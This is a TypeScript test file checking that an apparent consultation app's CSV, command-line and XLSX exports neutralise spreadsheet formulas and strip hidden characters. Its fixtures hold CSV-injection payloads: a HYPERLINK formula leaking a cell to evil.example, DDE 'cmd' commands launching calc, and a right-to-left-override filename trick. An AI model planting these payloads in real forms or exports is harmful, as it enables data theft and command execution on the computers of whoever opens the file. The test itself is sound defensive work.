// M4 and L15: what the review sent through the public API cannot run as a formula, nor hide text, in any export.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { VALID_CRIME_ANSWERS } from '../../test-support/consultations.js';
import { describeEachEngine } from '../../test-support/databases.js';
import { buildConsultation, buildPartnership, buildUser } from '../../test-support/factories.js';
import { HttpClient, startTestServer, type TestServer } from '../../test-support/httpClient.js';
import { runCli } from '../../test-support/runCli.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];
const HIDDEN = 'a\u0000b\u202egnp.exe';
const EVIL_WARD = '=HYPERLINK("http://evil.example/","x")';

/** The CSV's neutralised, quoted form of a cell that would start a formula. */
const neutralised = (text: string) => `"'${text.replace(/"/g, '""')}"`;

describeEachEngine('exports opened in a spreadsheet', ({ handle, target }) => {
  let server: TestServer;
  let consultationId: string;
  let analyst: HttpClient;
  let dir: string;
  beforeAll(async () => {
    const { db } = handle();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'saferplan-export-'));
    server = await startTestServer(handle(), { submissionRateLimit: 0 });
    const partnership = await buildPartnership({ db, wards: [EVIL_WARD, 'Plainfield'] });
    consultationId = (await buildConsultation({ db, partnershipId: partnership.id, stage: 'open' })).id;
    const ward = partnership.wards.find((w) => w.name === EVIL_WARD)?.code;
    const client = new HttpClient(server.url);
    for (const feel_safer of [...FORMULAS, HIDDEN]) {
      const res = await client.postJson(`/api/v1/consultations/${consultationId}/responses`, { ...VALID_CRIME_ANSWERS, ward, feel_safer });
      expect(res.status).toBe(201);
    }
    ({ client: analyst } = await buildUser({ db, role: 'analyst', partnershipId: partnership.id, server }));
  });
  afterAll(async () => {
    await server.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const expectSafeCsv = (csv: string) => {
    for (const formula of FORMULAS) expect(csv).toContain(`,${neutralised(formula)},`);
    expect(csv).toContain(',abgnp.exe,');
    expect(csv.includes('\u0000') || csv.includes('\u202e')).toBe(false);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
  };

  it('neutralises formulas and removes hidden characters in the responses CSV download', async () => {
    const res = await analyst.get(`/staff/consultations/${consultationId}/export.csv`);
    expect(res.status).toBe(200);
    expectSafeCsv(await res.text());
  });

  it('does the same in the command line export', async () => {
    const out = path.join(dir, 'export.csv');
    const cli = await runCli(['--db', target(), 'responses', 'export', consultationId, '--format', 'csv', '--out', out]);
    expect(cli.code, cli.stderr).toBe(0);
    expectSafeCsv(fs.readFileSync(out, 'utf8'));
  });

  it('keeps the true text as string cells in the XLSX download, less the hidden characters', async () => {
    const res = await analyst.get(`/staff/consultations/${consultationId}/export.xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0] as ExcelJS.Worksheet;
    const column = sheet.getColumn((sheet.getRow(1).values as string[]).indexOf('feel_safer'));
    expect(column.values.slice(2)).toEqual(expect.arrayContaining([...FORMULAS, 'abgnp.exe']));
    column.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String));
  });

  it('neutralises an option label in the analysis table CSV', async () => {
    const res = await analyst.get(`/staff/consultations/${consultationId}/analysis/questions/ward/table.csv`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toMatch(new RegExp(`^${neutralised(EVIL_WARD).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},`, 'm'));
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });
});
